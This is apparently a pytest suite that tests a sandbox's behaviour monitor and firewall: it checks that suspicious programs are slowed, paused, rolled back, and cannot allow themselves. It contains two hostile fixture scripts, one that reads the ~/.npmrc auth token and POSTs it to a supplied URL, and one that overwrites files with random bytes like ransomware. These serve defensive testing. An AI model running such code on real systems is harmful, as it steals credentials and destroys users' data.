"""The monitor of behaviour and the firewall in a machine: what programs do is judged, restricted, allowed, kept."""

from collections.abc import Iterator

import pytest

from tests.machine.browser import Machine
from tests.machine.outside import Outside
from tests.machine.test_sandbox import run

THIEF = """
const fs = require('fs')
const token = fs.readFileSync(process.env.HOME + '/.npmrc', 'utf8')
fetch(process.argv[2], {method: 'POST', body: token}).then((answer) => console.log(answer.status), (error) => console.log(error.cause.code))
"""
REWRITER = """
const fs = require('fs'), crypto = require('crypto')
fs.mkdirSync('papers', {recursive: true})
for (let k = 0; k < 40; k++) fs.writeFileSync(`papers/${k}.md`, 'What I know about otters. '.repeat(100))
function round() {
  try { for (let k = 0; k < 40; k++) fs.writeFileSync(`papers/${k}.md`, crypto.randomBytes(2500)) } catch (error) { console.log(error.code); process.exit(3) }
  setTimeout(round, 20)
}
round()
"""


@pytest.fixture(scope='module', autouse=True)
def files(machine: Machine) -> Iterator[None]:
    machine.api(
        "await wc.fs.writeFile('thief.cjs', args[0]); await wc.fs.writeFile('rewriter.cjs', args[1])", THIEF, REWRITER
    )
    run(machine, 'echo "//registry.test/:_authToken=x" > ~/.npmrc')
    yield
    run(machine, 'rm -f ~/.npmrc; firewall learn; firewall forget')


def behaviours(machine: Machine, who: str) -> list:
    found = machine.api('return (await wc.audit()).records')
    return [record for record in found if record['kind'] == 'behaviour' and record['who'].endswith(who)]


def test_ordinary_programs_are_not_told(machine: Machine) -> None:
    run(
        machine,
        "mkdir -p quiet; cd quiet; for k in 1 2 3; do node -e \"fs.writeFileSync('a.txt', 'x'); fs.readdirSync('/etc')\"; done",
    )
    found = machine.api('return (await wc.audit()).records')
    assert [
        record for record in found if record['kind'] == 'behaviour' and record['level'] not in ('noted', 'none')
    ] == []


def test_a_confined_program_is_judged_too(machine: Machine, outside: Outside) -> None:
    run(machine, 'cp thief.cjs confined-thief.cjs')
    run(machine, f'sandbox --profile open --confined node confined-thief.cjs {outside.http}/echo')
    found = behaviours(machine, 'confined-thief.cjs')
    assert found[-1]['level'] == 'slowed'
    assert 'after it had read /home/user/.npmrc' in found[-1]['reasons'][0]
    assert run(machine, 'behaviour allow "node /home/user/project/confined-thief.cjs"')[0] == 0
    run(machine, 'firewall forget')


@pytest.mark.parametrize('name', ['npm', 'sh', 'serve', 'behaviour'])
def test_a_name_makes_no_program_one_of_the_machine_s(machine: Machine, outside: Outside, name: str) -> None:
    """Those aren't judged, or may change what is allowed: what runs counts, not what its file is called."""
    run(machine, f'mkdir -p fake; cp /usr/bin/node fake/{name}; cp thief.cjs fake/{name}.cjs')
    before = len([record for record in behaviours(machine, '') if record['level'] == 'slowed'])
    run(machine, f'fake/{name} fake/{name}.cjs {outside.http}/echo')
    assert len([record for record in behaviours(machine, '') if record['level'] == 'slowed']) == before + 1
    script = "require('child_process').execSync('behaviour allow x', {stdio: 'inherit'})"
    assert 'only the user may change this' in run(machine, f'fake/{name} -e "{script}" 2>&1')[1]
    assert run(machine, f'behaviour allow "$PWD/fake/{name}"')[0] == 0
    run(machine, 'rm -rf fake; firewall forget')


def test_tokens_posted_to_a_new_host_are_told_and_slowed(machine: Machine, outside: Outside) -> None:
    machine.api('window.warned = []; window.stopWarning = wc.on("warning", (warning) => window.warned.push(warning))')
    run(machine, f'node thief.cjs {outside.http}/echo')
    found = behaviours(machine, 'thief.cjs')
    assert found[-1]['level'] == 'slowed'
    assert 'after it had read /home/user/.npmrc' in found[-1]['reasons'][0]
    assert run(machine, 'behaviour')[1].split() == ['slowed', '60', 'node', '/home/user/project/thief.cjs']
    warned = machine.api('window.stopWarning(); return window.warned')
    assert [one['code'] for one in warned] == ['ERR_TERRARIUM_BEHAVIOUR']
    assert 'thief.cjs was slowed: it connected to outside.test' in warned[0]['message']


def test_it_begins_restricted_until_it_is_allowed(machine: Machine, outside: Outside) -> None:
    run(machine, f'node thief.cjs {outside.http}/echo')
    assert any('begins slowed' in record.get('text', '') for record in behaviours(machine, 'thief.cjs'))
    assert run(machine, 'behaviour allow "node /home/user/project/thief.cjs"; behaviour')[1] == ''
    count = len(behaviours(machine, 'thief.cjs'))
    run(machine, f'node thief.cjs {outside.http}/echo')
    assert len(behaviours(machine, 'thief.cjs')) > count


def test_a_rewriter_is_paused_and_its_files_come_back(machine: Machine) -> None:
    run(
        machine,
        'mkdir -p papers; for k in 1 2 3; do echo "What I know" > papers/$k.md; done; checkpoint before-the-rewriter',
    )
    machine.api("""
        const program = await wc.spawn('node', ['rewriter.cjs'], {terminal: false})
        program.output.pipeTo(new WritableStream())
        for (let k = 0; k < 200; k++) {
            const found = (await wc.audit()).records.filter((record) => record.kind === 'behaviour' && record.level === 'paused')
            if (found.length > 0) break
            await new Promise((done) => setTimeout(done, 50))
        }
        window.rewriter = program""")
    found = behaviours(machine, 'rewriter.cjs')[-1]
    assert found['level'] == 'paused'
    assert 'looks encrypted' in found['reasons'][0]
    processes = machine.api('return (await wc.resources()).processes')
    assert [one['state'] for one in processes if 'rewriter' in one['command']] == ['T']
    assert run(machine, 'rollback before-the-rewriter; cat papers/1.md')[1].endswith('What I know\n')
    machine.api('window.rewriter.kill(); await window.rewriter.exit')


def test_a_program_can_not_allow_itself(machine: Machine) -> None:
    code, text = run(
        machine, "node -e \"require('child_process').execSync('behaviour allow x', {stdio: 'inherit'})\" 2>&1"
    )
    assert 'only the user may change this' in text
    code, text = run(
        machine, "node -e \"require('child_process').execSync('firewall learn', {stdio: 'inherit'})\" 2>&1"
    )
    assert 'only the user may change this' in text
    assert run(machine, 'echo x > /var/lib/terrarium/firewall 2>/dev/null')[0] != 0


def test_the_firewall_learns_proposes_and_enforces(machine: Machine, outside: Outside) -> None:
    fetch = f"fetch('{outside.http}/x').then((answer) => console.log(answer.status), (error) => console.log(error.cause.code))"
    run(machine, 'firewall forget; firewall learn')
    assert run(machine, f'node -e "{fetch}"')[1] != 'EACCES\n'
    host = outside.http.removeprefix('http://')
    lines = run(machine, 'firewall')[1].split('\n')
    assert lines[0] == 'mode: learning'
    assert (
        lines[1].startswith('proposed') and host in lines[1] and 'program node' in lines[1] and 'seen once' in lines[1]
    )
    assert '1 rules' in run(machine, 'firewall lock')[1]
    assert run(machine, f'node -e "{fetch}"')[1] != 'EACCES\n'
    other = fetch.replace('outside.test', 'other.test')
    assert run(machine, f'node -e "{other}"')[1] == 'EACCES\n'
    assert run(machine, f'curl -s {outside.http}/x')[0] != 0
    denied = machine.api('return (await wc.audit()).records.filter((record) => record.kind === "decision")')
    assert denied[-1]['action'] == 'connect' and 'no rule of the firewall allows it' in denied[-1]['why']
    run(machine, 'firewall allow "*.test" --program sh')
    assert run(machine, f'curl -s {outside.http}/x')[0] == 0
    machine.reload()
    assert run(machine, 'firewall')[1].split('\n')[0] == 'mode: enforcing'
    assert run(machine, f'node -e "{other}"')[1] == 'EACCES\n'
    run(machine, 'firewall learn')
    changes = machine.api('return (await wc.audit()).records.filter((record) => record.kind === "policy")')
    assert [record['text'] for record in changes][-2:] == ['allow *.test for program sh', 'the firewall is learning']
